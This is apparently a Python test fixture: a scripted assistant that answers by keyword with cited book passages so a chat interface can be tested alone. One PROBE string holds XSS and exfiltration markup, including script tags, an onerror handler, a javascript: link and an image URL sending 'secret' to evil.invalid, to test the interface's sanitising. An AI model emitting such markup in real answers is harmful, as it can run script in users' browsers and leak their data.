"""An assistant that answers by script, and the service on it: the interface is tested alone.

Run as a module it serves with the settings of the environment, as ``guide serve`` does.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path

from assistant.answer import Answer, Citation, Note, Question
from ingest.document import Book, Passage

FIGURES = "ch04.t3.know.p2"  # note 43, 61%
LINKED = "ch11.t1.know.p4"  # note 115, with a link
ACTIONS = ("ch04.t3.act.b1", "ch04.t3.act.b2", "ch04.t3.act.b3")
PROBE = (
    "<img src=x onerror=alert(1)><script>alert(2)</script> "
    "![p](https://evil.invalid/?q=secret) [link](javascript:alert(3)) "
    "<a href='https://evil.invalid'>a</a> `code`\n\n# heading\n\n$$x$$ **bold**"
)
_LONGEST_WAIT = 20.0  # seconds


class ScriptedAssistant:
    """Answers by a word of the question.

    「天气」 is refused; 「怎样」 gives three actions; 「链接」 a note with a link; 「探针」 an
    answer full of markup; 「慢」 stops after the first sentence until the file ``go`` lies in the
    folder, 「堵」 before it; anything else the figures of chapter 4.
    """

    def __init__(self, book: Book, folder: Path) -> None:
        self._book = book
        self._go = folder / "go"

    @property
    def book(self) -> Book:
        """The book that answers come from."""
        return self._book

    def stream(self, input: Question) -> Iterator[Answer]:
        """Give the answer, sentence by sentence."""
        asked = input.question
        if "天气" in asked:
            near = "第 12 章《可持续发展》、第 4 章《平台、数据和治理》"
            text = f"本书没有谈到这个问题。相近的内容见{near}。"
            yield Answer(id=input.id, question=asked, answered=False, answer=text)
        elif "怎样" in asked:
            yield from self._grow(input, ACTIONS, lead="让治理处于中心：", numbered=True)
        elif "链接" in asked:
            yield from self._grow(input, (LINKED,))
        elif "探针" in asked:
            yield from self._grow(input, (FIGURES,), lead=PROBE)
        elif "慢" in asked:
            for answer in self._grow(input, (FIGURES, LINKED)):
                yield answer
                self._wait()
        else:
            if "堵" in asked:
                self._wait()
            yield from self._grow(input, (FIGURES,))

    def _wait(self) -> None:
        deadline = time.monotonic() + _LONGEST_WAIT
        while not self._go.exists() and time.monotonic() < deadline:
            time.sleep(0.01)  # between two looks for the file

    def _grow(
        self, question: Question, places: tuple[str, ...], *, lead: str = "", numbered: bool = False
    ) -> Iterator[Answer]:
        lines, citations = [lead] if lead else [], []
        for number, place in enumerate(places, 1):
            passage = self._book.passages_by_id[place]
            citation = _cite(passage)
            notes = "、".join(map(str, citation.footnotes))
            mark = f"[第{citation.chapter}章·注{notes}]" if notes else f"[第{citation.chapter}章]"
            first = f"{number}. " if numbered else ""
            lines.append(f"{first}{citation.quote.replace('**', '')}{mark}")
            citations.append(citation)
            called = sorted({note for c in citations for note in c.footnotes})
            yield Answer(
                id=question.id,
                question=question.question,
                answered=True,
                answer="\n".join(lines),
                citations=tuple(citations),
                notes=tuple(self._note(number) for number in called),
                seconds=0.01,
            )

    def _note(self, number: int) -> Note:
        note = self._book.notes_by_number[number]
        return Note(number=note.number, text=note.text, url=note.url)


def _cite(passage: Passage) -> Citation:
    """Cite the first sentence that a note carries, with all that follows to the next mark."""
    noted = [s for s in passage.sentences if s.notes] or list(passage.sentences)
    first, last = noted[0], noted[0]
    for sentence in noted:
        if sentence.notes == first.notes:
            last = sentence
    division = passage.section.division
    return Citation(
        chapter=division.number,
        chapter_title=division.name,
        section=passage.section.name,
        pages=division.pages,
        footnotes=first.notes,
        quote=passage.text[first.start - passage.start : last.end - passage.start],
        passage_id=passage.id,
    )


def main() -> None:
    """Serve the scripted assistant."""
    from assistant.settings import Settings
    from ingest.parse import read_book
    from ui.logs import set_up_log
    from ui.server import create_app, server_of

    settings = Settings(_env_file=None)
    set_up_log(as_json=settings.log_json)
    scripted = ScriptedAssistant(read_book(settings.book), settings.data_dir)
    server_of(create_app(scripted, settings), settings).run()


if __name__ == "__main__":
    main()
